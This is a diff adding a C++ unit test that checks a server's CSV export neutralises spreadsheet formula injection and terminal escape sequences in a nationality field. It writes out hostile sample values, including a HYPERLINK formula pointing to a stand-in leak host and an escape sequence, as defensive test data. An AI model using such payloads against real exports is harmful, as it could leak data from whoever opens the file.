@@ -13,6 +13,7 @@ namespace haven::test {
 namespace {
 
 using values = std::map<std::string, std::int64_t>;
+using Catch::Matchers::Contains;
 
 typed_fields pats(const char* date, const char* site, const char* format, const char* person,
                   const char* participants = "") {
@@ -376,6 +377,45 @@ TEST_CASE("CSV of a tally with a column field", "[server][tally]") {
         "reintegration,SI,1,1,2\n"
         "total,,2,1,3\n");
   CHECK(f.csv("pats-individual-by-site", 2026) == "site,persons\ntotal,0\n");
+}
+
+TEST_CASE("CSV: a text cell a spreadsheet would take for a formula is neutralised; numbers are not",
+          "[server][tally][csv]") {
+  tally_fixture f;
+  int persons = 0;
+  const auto with_nationality = [&](const std::string& nationality) {
+    const std::string person = "P-000" + std::to_string(++persons);
+    field_map fields = typed(
+        f.definitions(), "assistance_case",
+        stay("crisis-accommodation", person.c_str(), "female", "UA", "2026-01-10", "2026-01-20"));
+    fields["nationality"] = nationality;  // as a store could hold it, past any validation
+    return fields;
+  };
+  f.put_fields("a", "assistance_case",
+               with_nationality("=HYPERLINK(\"http://x.example/?leak\",\"Click\")"));
+  f.put_fields("b", "assistance_case", with_nationality("+1"));
+  f.put_fields("c", "assistance_case", with_nationality("@SUM(A1)"));
+  f.put_fields("d", "assistance_case", with_nationality("-2+3"));
+  f.put_fields("e", "assistance_case", with_nationality("\tx"));
+  f.put_fields("g", "assistance_case", with_nationality("\x1b]0;pwned\x07"));
+  const std::string csv = f.csv("assisted-by-nationality-sex", 2026);
+  INFO(csv);
+  CHECK_THAT(csv,
+             Contains(",\"'=HYPERLINK(\"\"http://x.example/?leak\"\",\"\"Click\"\")\",1,0,1\n"));
+  CHECK_THAT(csv, Contains(",\"'+1\",1,0,1\n"));
+  CHECK_THAT(csv, Contains(",\"'@SUM(A1)\",1,0,1\n"));
+  CHECK_THAT(csv, Contains(",\"'-2+3\",1,0,1\n"));
+  CHECK_THAT(csv, Contains(",\"'\\x09x\",1,0,1\n"));
+  CHECK_THAT(csv, Contains(",\\x1b]0;pwned\\x07,1,0,1\n"));
+  CHECK(csv.find('\x1b') == std::string::npos);
+  CHECK(csv.find('\t') == std::string::npos);
+  for (const char* raw : {",=", ",+", ",@", ",-", ",\"=", ",\"+", ",\"@", ",\"-"}) {
+    INFO(raw);
+    CHECK(csv.find(raw) == std::string::npos);
+  }
+  // Numbers are numbers, never quoted: the totals are written as they are.
+  CHECK_THAT(csv, Contains("\ncrisis-accommodation,,6,0,6\n"));
+  CHECK_THAT(csv, Contains("\ntotal,,6,0,6\n"));
 }
 
 TEST_CASE("reports: shape, list, unknown ids and bad periods", "[server][tally]") {
